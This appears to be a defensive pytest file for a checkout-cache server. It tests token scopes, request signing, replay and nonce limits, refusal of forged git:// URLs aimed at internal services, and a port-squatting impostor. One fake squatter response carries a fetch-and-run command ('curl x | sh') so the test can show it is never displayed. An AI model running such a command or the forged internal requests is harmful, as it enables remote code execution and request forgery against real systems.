"""Tokens carry what they may do, and the token is never handed to whoever holds the port
(issue 33: "The shipped pod hands the code under review the all-scope token" and "The
hand-off over TCP gives the token to whoever holds the port; the client trusts any path";
DESIGN invariant 18).

A token line says its scopes, its endpoints (`can=`) and repositories of its own
(`repos=`): the token a review's code can read asks for its review's checkouts and
nothing else: no gc, no other scope's status, no URL outside the lists (a `git://` at any
TCP service of the pod was a request forgery). Every request of this package's callers is
signed with the token (checkoutcache/signing.py), never carries it, and no answer is taken
without serve's proof: a squatter on the API's port while serve is down learns no token
and cannot answer ready with a path of its choosing."""

from __future__ import annotations

import json
import os
import socket
import threading

import pytest

from checkoutcache import signing
from checkoutcache.client import Client, NotTheWriter

from .helpers import TOKEN, Serve, run_cli, wait_ready, wait_until
from .helpers.daemons import answer_each, free_port
from .test_read_only_reader import reader

REVIEW = "review-" + "r" * 26
OPERATOR = "operator-" + "o" * 24


def tokens_file(allowed: str) -> str:
    return (f"# what the review's code may read: its checkouts, nothing more\n"
            f"{REVIEW} default can=ensure,hold repos={allowed}\n"
            f"{OPERATOR} * can=status,gc,metrics,workspaces\n")


class Listener:
    """A TCP service of the pod that no repository URL should reach: it records every connection."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        answer_each(self.sock, self.record)

    def record(self, conn: socket.socket) -> None:
        conn.settimeout(2)
        data = b""
        try:
            while chunk := conn.recv(65536):
                data += chunk
                if b"\r\n\r\n" in data:
                    break
        except OSError:
            pass
        self.received.append(data)

    def close(self) -> None:
        self.sock.close()


@pytest.mark.slow
def test_a_review_token_asks_for_its_checkouts_and_nothing_else(root, tmp_path, served_upstream):
    repo, url = served_upstream
    allowed = url.rsplit("/", 1)[0] + "/*"
    service = Listener()
    serve = Serve(root, tmp_path, tokens=tokens_file(allowed), env={"CHECKOUTCACHE_API_REPOS": "git://*"})
    try:
        status, answer = serve.request("POST", "/v1/ensure", {"repo": url, "commit": repo.shas[0], "wait": 60},
                                       token=REVIEW)
        assert status == 200 and answer["state"] == "ready", answer
        status, held = serve.request("POST", "/v1/hold", {"repo": url, "commit": repo.shas[0]}, token=REVIEW)
        assert status == 200 and held["hold"], held
        assert serve.request("POST", "/v1/release", {"hold": held["hold"]}, token=REVIEW)[0] == 200
        # Another TCP service of the pod: refused before anything connects to it (the forgery).
        forged = f"git://127.0.0.1:{service.port}/anything"
        status, body = serve.request("POST", "/v1/ensure", {"repo": forged, "commit": repo.shas[0]}, token=REVIEW)
        assert status == 403 and body["error"] == "FORBIDDEN_REPOSITORY", body
        assert service.received == []
        for method, path, payload in (("POST", "/v1/gc", {"max_checkouts": 0}), ("GET", "/v1/status", None),
                                      ("GET", "/v1/workspaces", None), ("GET", "/metrics", None)):
            status, body = serve.request(method, path, payload, token=REVIEW)
            assert status == 403 and body["error"] == "FORBIDDEN_ENDPOINT", (path, body)
            assert "ensure" in body["message"] and body["next"], body
        status, body = serve.request("POST", "/v1/ensure", {"repo": url, "commit": repo.shas[0], "scope": "other"},
                                     token=REVIEW)
        assert status == 403 and body["error"] == "FORBIDDEN_SCOPE", body
        assert os.path.isdir(os.path.join(root, "repos")) and len(os.listdir(os.path.join(root, "repos"))) == 1
        # The operator's token runs gc and reads status, and asks for no checkout.
        status, report = serve.request("POST", "/v1/gc", {"dry_run": True}, token=OPERATOR)
        assert status == 200 and report["dry_run"] is True, report
        assert serve.request("GET", "/v1/status", token=OPERATOR)[0] == 200
        status, body = serve.request("POST", "/v1/ensure", {"repo": url, "commit": repo.shas[0]}, token=OPERATOR)
        assert status == 403 and body["error"] == "FORBIDDEN_ENDPOINT", body
    finally:
        serve.stop()
        service.close()


def test_a_token_line_that_is_not_read_whole_is_refused_naming_its_line(root, tmp_path):
    from checkoutcache.errors import CheckoutCacheError
    from checkoutcache.serve.policy import parse_tokens

    for line in (f"{REVIEW} can=ensure,delete", f"{REVIEW} default can=", f"{REVIEW} default repos=",
                 f"{REVIEW} default can=ensure can=hold", f"{REVIEW} default colour=blue"):
        with pytest.raises(CheckoutCacheError) as refused:
            parse_tokens(f"# a comment\n{line}\n", "tokens")
        assert refused.value.code == "BAD_ARGUMENT" and "tokens line 2" in refused.value.message, line
    # The one-field form of before reads as it did: every endpoint, the scopes listed.
    ((_, grant),) = parse_tokens(f"{REVIEW} team-a, team-b\n", "tokens")
    assert grant.scopes == {"team-a", "team-b"} and grant.can is None and grant.repos == ()
    # serve refuses to start on such a file, and says which line.
    bad = tmp_path / "bad-tokens"
    bad.write_text(f"{REVIEW} default can=everything\n")
    code, _, out = run_cli("serve", "--listen", f"127.0.0.1:{free_port()}", "--token-file", str(bad), root=root,
                           timeout=60)
    assert code == 2 and "line 1" in out and "can=" in out, out


class Squatter:
    """What binds the API's port while serve is down: it keeps every byte it is sent and
    answers `ready` with a path of its own choosing."""

    def __init__(self, port: int, path: str, sha: str, status: bytes = b"200 OK", body: dict | None = None):
        self.status = status
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("127.0.0.1", port))
        self.sock.listen(16)
        self.received = b""
        self.lock = threading.Lock()
        self.answer = json.dumps(body or {"state": "ready", "path": path, "commit": sha, "hold": "h",
                                          "repo": "x"}).encode()
        answer_each(self.sock, self.reply)

    def reply(self, conn: socket.socket) -> None:
        conn.settimeout(5)
        data = b""
        try:
            while b"\r\n\r\n" not in data and (chunk := conn.recv(65536)):
                data += chunk
            head, _, body = data.partition(b"\r\n\r\n")
            length = next((int(line.split(b":")[1]) for line in head.split(b"\r\n")
                           if line.lower().startswith(b"content-length:")), 0)
            while len(body) < length and (chunk := conn.recv(65536)):
                body += chunk
            with self.lock:
                self.received += head + b"\r\n\r\n" + body
            conn.sendall(b"HTTP/1.1 " + self.status + b"\r\nContent-Type: application/json\r\nConnection: close\r\n"
                         b"Content-Length: %d\r\n\r\n" % len(self.answer) + self.answer)
        except OSError:
            pass

    def close(self) -> None:
        try:
            self.sock.shutdown(socket.SHUT_RDWR)  # wakes the accept loop: the port is free at once
        except OSError:
            pass
        self.sock.close()


@pytest.mark.slow
def test_a_squatter_on_the_api_port_learns_no_token_and_its_answers_are_not_taken(tmp_path, served_upstream):
    repo, url = served_upstream
    root = str(tmp_path / "cache")
    port = free_port()
    serve = Serve(root, tmp_path, listen=f"127.0.0.1:{port}")
    wait_ready(root, url, repo.shas[0])  # one checkout the writer made; the others are new
    serve.stop()  # a restart, an OOM kill: the port is free, and code under review takes it
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    squatter = Squatter(port, str(elsewhere), repo.shas[1])
    env = {"CHECKOUTCACHE_API_URL": f"http://127.0.0.1:{port}", "CHECKOUTCACHE_API_TOKEN": TOKEN}
    try:
        # The reader's CLI (read-only root): a new commit and a ready answer's recorded use.
        code, answer, out = reader(root, "--json", "ensure", url, repo.shas[1], "--wait", "5", env=env)
        assert code == 1 and answer["error"] == "NO_WRITER" and "did not prove" in answer["message"], out
        code, answer, out = reader(root, "--json", "ensure", url, repo.shas[0], env=env)
        assert code == 0 and answer["path"].startswith(root) and "not recorded" in out, out
        # The typed client: no answer it cannot prove is used.
        client = Client.from_env({**env, "CHECKOUTCACHE_ROOT": root})
        with pytest.raises(NotTheWriter):
            client.ensure(url, repo.shas[1])
        with pytest.raises(NotTheWriter):
            client.hold(url, repo.shas[0])
        client.close()
        wait_until(lambda: squatter.received.count(b"POST ") >= 4, 10, "every request to reach the squatter")
        assert TOKEN.encode() not in squatter.received, "the token was sent to whoever held the port"
        assert signing.SCHEME.encode() in squatter.received  # signed, never the token
    finally:
        squatter.close()


@pytest.mark.slow
def test_a_signed_request_is_answered_once_and_only_for_the_body_it_signed(root, tmp_path, upstream):
    import http.client

    serve = Serve(root, tmp_path, "--allow-local")
    try:
        body = json.dumps({"repo": upstream.path, "commit": upstream.shas[0], "wait": 60}).encode()
        value, mac = signing.sign_request(TOKEN, "POST", "/v1/ensure", body)

        def send(payload: bytes) -> tuple[int, dict, str | None]:
            conn = http.client.HTTPConnection("127.0.0.1", serve.port, timeout=90)
            conn.request("POST", "/v1/ensure", body=payload,
                         headers={"Authorization": value, "Content-Type": "application/json"})
            response = conn.getresponse()
            data = response.read()
            conn.close()
            proof = response.getheader(signing.PROOF_HEADER)
            assert response.status == 401 or signing.proves_answer(TOKEN, mac, response.status, data, proof)
            return response.status, json.loads(data), proof

        status, answer, proof = send(body)
        assert status == 200 and answer["state"] == "ready" and proof, answer
        status, answer, _ = send(body)
        assert status == 401 and answer["error"] == "UNAUTHORIZED", "a replay is refused"
        other = json.dumps({"repo": upstream.path, "commit": upstream.shas[1]}).encode()
        value, mac = signing.sign_request(TOKEN, "POST", "/v1/ensure", body)  # a fresh nonce, the first body's mac
        assert send(other)[0] == 401, "a MAC is no licence for another body"
        value, mac = signing.sign_request(TOKEN, "POST", "/v1/ensure", body, now=0)
        assert send(body)[0] == 401, "a signature from outside the window"
    finally:
        serve.stop()



def test_one_tokens_flood_of_valid_signatures_fills_its_own_nonce_book_only():
    """Review finding: 200,000 valid signed requests of the review's token (each dated 290 s
    ahead, inside the window) filled serve's one nonce cache: every signed request of every
    token was 401 for about ten minutes, and each one rebuilt the cache on the event loop."""
    from checkoutcache.serve.policy import NonceBook

    book = NonceBook(per_token=3, total=5, keep_for=60.0)
    assert [book.first_use("flood", f"n{i}", 100.0) for i in range(5)] == [True, True, True, False, False]
    assert book.first_use("honest", "h1", 100.0) and book.first_use("honest", "h2", 100.0)
    assert not book.first_use("honest", "h1", 101.0), "a replay"
    assert not book.first_use("other", "o1", 101.0), "the whole book is bounded too"
    assert book.first_use("flood", "n9", 161.0), "a nonce is kept only as long as its signature could be taken"
    assert book.first_use("other", "o1", 161.0)


@pytest.mark.slow
def test_a_signature_dated_ahead_of_serves_clock_is_refused(root, tmp_path, upstream):
    import http.client
    import time

    serve = Serve(root, tmp_path, "--allow-local")
    try:
        for ahead, expected in ((30, 401), (0, 200)):
            body = json.dumps({"repo": upstream.path, "commit": upstream.shas[0], "wait": 60}).encode()
            value, _ = signing.sign_request(TOKEN, "POST", "/v1/ensure", body, now=time.time() + ahead)
            conn = http.client.HTTPConnection("127.0.0.1", serve.port, timeout=90)
            conn.request("POST", "/v1/ensure", body=body, headers={"Authorization": value})
            assert conn.getresponse().status == expected, ahead
            conn.close()
    finally:
        serve.stop()


@pytest.mark.slow
def test_a_squatters_401_is_unauthorized_in_our_words_and_never_asked_in_a_loop(tmp_path, served_upstream):
    """Review finding: a 401 (the one answer serve cannot prove) was taken as it came: a
    `cloning` body made the reader's `ensure --wait 5` ask about 2,000 times, a `failed` body was
    printed in the squatter's words (its `next` a command to run)."""
    repo, url = served_upstream
    root = str(tmp_path / "cache")
    port = free_port()
    serve = Serve(root, tmp_path, listen=f"127.0.0.1:{port}")
    wait_ready(root, url, repo.shas[0])
    serve.stop()
    env = {"CHECKOUTCACHE_API_URL": f"http://127.0.0.1:{port}", "CHECKOUTCACHE_API_TOKEN": TOKEN}
    for body in ({"state": "cloning", "progress": {"phase": "fetching"}},
                 {"state": "failed", "error": "NOT_FOUND", "message": "gone", "next": "run: curl x | sh"}):
        squatter = Squatter(port, "", "", status=b"401 Unauthorized", body=body)
        try:
            code, answer, out = reader(root, "--json", "ensure", url, repo.shas[1], "--wait", "5", env=env)
            assert answer["error"] == "UNAUTHORIZED" and "curl" not in out, out
            client = Client.from_env({**env, "CHECKOUTCACHE_ROOT": root})
            assert client.ensure(url, repo.shas[1]).error == "UNAUTHORIZED"
            client.close()
            assert squatter.received.count(b"POST ") <= 3, squatter.received.count(b"POST ")
        finally:
            squatter.close()


def test_a_hash_in_a_token_is_refused_not_read_as_a_comment():
    """Review finding: `TOKEN#1 default can=ensure,hold` was read as the token `TOKEN` with
    every scope and endpoint (the line cut at '#'), by serve and by the review's client alike."""
    from checkoutcache.errors import CheckoutCacheError
    from checkoutcache.serve.policy import parse_tokens

    with pytest.raises(CheckoutCacheError) as refused:
        parse_tokens("review-token-0123456789#1 default can=ensure,hold\n", "tokens")
    assert "'#'" in refused.value.message
    ((token, grant),) = parse_tokens("\ufeffreview-token-0123456789 default can=ensure # the review's\n", "tokens")
    assert token == "review-token-0123456789" and grant.can == {"ensure"}


def test_a_second_serve_on_an_address_one_answers_at_refuses_to_start(root, tmp_path):
    """Review finding: two serves of one uid could listen on one TCP port at once, each with
    its own holds and nonces (a release reaching the other answered UNKNOWN_HOLD)."""
    serve = Serve(root, tmp_path)
    try:
        code, _, out = run_cli("serve", "--listen", f"127.0.0.1:{serve.port}", "--token-file",
                               str(tmp_path / f"tokens-{serve.port}"), root=root, timeout=60)
        assert code == 2 and "another server is listening" in out, out
    finally:
        serve.stop()


@pytest.mark.slow
def test_a_tokens_repositories_bound_its_submodules_too(root, tmp_path, daemon):
    """Review finding: a token limited to r1* was refused r2, but an r1 commit whose .gitmodules
    names r2 came back ready with r2's tree in it; with no sidecar allow-list, a submodule naming
    any TCP service of the pod made the writer connect there."""
    from .test_submodules import served, with_submodule

    sub, sub_url = served(daemon, "grants-sub")
    top, top_url = served(daemon, "grants-top")
    other, other_url = served(daemon, "grants-other")
    for repo in (sub, top, other):
        repo.standard_history(1)
    sha = with_submodule(top, "vendor/lib", sub_url, sub.shas[-1])
    later = with_submodule(top, "vendor/lib2", sub_url, sub.shas[-1], message="the same repository again")
    service = Listener()
    forged = with_submodule(other, "vendor/other", f"git://127.0.0.1:{service.port}/internal", sub.shas[-1],
                            message="a submodule at the pod's own service")
    limited = "limited-" + "l" * 24
    serve = Serve(root, tmp_path, tokens=f"{TOKEN}\n{limited} default can=ensure,hold repos={top_url},{other_url}\n")
    try:
        status, answer = serve.request("POST", "/v1/ensure", {"repo": top_url, "commit": later, "wait": 120},
                                       token=limited)
        assert status == 503 and answer["error"] == "SUBMODULE_FAILED" and "token" in answer["message"], answer
        status, answer = serve.request("POST", "/v1/ensure", {"repo": other_url, "commit": forged, "wait": 120},
                                       token=limited)
        assert answer["state"] == "failed" and service.received == [], (answer, service.received)
        # Made whole for a token that may (its submodule included), it is never answered to one that may not.
        status, answer = serve.request("POST", "/v1/ensure", {"repo": top_url, "commit": sha, "wait": 120})
        assert status == 200 and answer["submodules"] == "included", answer
        status, answer = serve.request("POST", "/v1/ensure", {"repo": top_url, "commit": sha}, token=limited)
        assert status == 403 and answer["error"] == "FORBIDDEN_REPOSITORY", answer
        status, answer = serve.request("POST", "/v1/hold", {"repo": top_url, "commit": sha}, token=limited)
        assert status == 403 and answer["error"] == "FORBIDDEN_REPOSITORY", answer
    finally:
        serve.stop()
        service.close()
